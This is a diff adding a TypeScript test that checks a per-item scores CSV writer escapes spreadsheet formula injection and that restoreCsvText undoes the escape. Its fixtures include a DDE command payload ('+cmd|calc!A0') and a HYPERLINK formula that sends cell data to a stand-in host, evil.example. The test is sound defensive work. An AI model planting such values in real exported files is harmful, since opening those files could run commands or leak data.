@@ -1,9 +1,11 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { buildReport, type PointScore, type PairScore, type ReportInput } from '../src/eval/report.js';
 import { renderMarkdown } from '../src/eval/render-markdown.js';
 import { renderHtml } from '../src/eval/render-html.js';
 import { pointwiseRecord, renderScoresCsv, renderScoresJsonl } from '../src/eval/scores-file.js';
+import { restoreCsvText } from '../src/io/writers/csv.js';
 
 function point(model: string | null, prompt: string, image: string, score: number | null, error: string | null = null): PointScore {
   return { model, prompt, image, path: `/data/${image}`, score, error };
@@ -148,6 +150,21 @@ test('per-item scores: JSON Lines as given, CSV with the union of fields and ext
   ].join('\n'));
 });
 
+test('per-item CSV: text a spreadsheet would run as a formula gets a leading quote; numbers stay numbers; restoreCsvText undoes it', () => {
+  const records = [
+    { manifest: 'm.jsonl', line: 1, kind: 'pointwise', model: '+cmd|calc!A0', prompt: '=HYPERLINK("http://evil.example/?x="&A1,"click")', image: '@a.png', score: -5.4, error: '-x', '=field': '\tlead', seed: -3 },
+    { manifest: 'm.jsonl', line: 2, kind: 'pointwise', model: "'=already", prompt: "it's fine", image: "'quoted.png", score: 20.5, error: null, '=field': '\rcr', seed: 0 },
+  ];
+  const rows = parseCsv(renderScoresCsv(records));
+  assert.deepEqual(rows[0], ['manifest', 'line', 'kind', 'model', 'prompt', 'image', 'score', 'error', "'=field", 'seed']);
+  assert.deepEqual(rows[1], ['m.jsonl', '1', 'pointwise', "'+cmd|calc!A0", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'@a.png", '-5.4', "'-x", "'\tlead", '-3']);
+  assert.deepEqual(rows[2], ['m.jsonl', '2', 'pointwise', "''=already", "it's fine", "'quoted.png", '20.5', '', "'\rcr", '0']);
+  const restored = rows.map((row) => row.map(restoreCsvText));
+  assert.deepEqual(restored[1].slice(3, 6), [records[0].model, records[0].prompt, records[0].image]);
+  assert.deepEqual(restored[2].slice(3, 6), [records[1].model, records[1].prompt, records[1].image]);
+  assert.deepEqual([restored[0][8], restored[1][8], restored[2][8]], ['=field', '\tlead', '\rcr']);
+});
+
 test('a per-item record puts the schema first; a manifest field named like one of its fields does not replace it', () => {
   const record = pointwiseRecord({
     kind: 'pointwise', manifest: 'm.jsonl', line: 3, prompt: 'p', image: { given: 'a.png', path: '/d/a.png' }, model: null, id: null,
@@ -156,3 +173,9 @@ test('a per-item record puts the schema first; a manifest field named like one o
   assert.deepEqual(Object.keys(record), ['manifest', 'line', 'kind', 'id', 'model', 'prompt', 'image', 'score', 'error', 'seed']);
   assert.equal(record.score, 21.25);
 });
+
+/** An independent CSV parser (Python's csv module) over text. */
+function parseCsv(text: string): string[][] {
+  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys, io; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline="")))))'],
+    { input: text, encoding: 'utf8', env: { ...process.env, PYTHONIOENCODING: 'utf-8' } })) as string[][];
+}
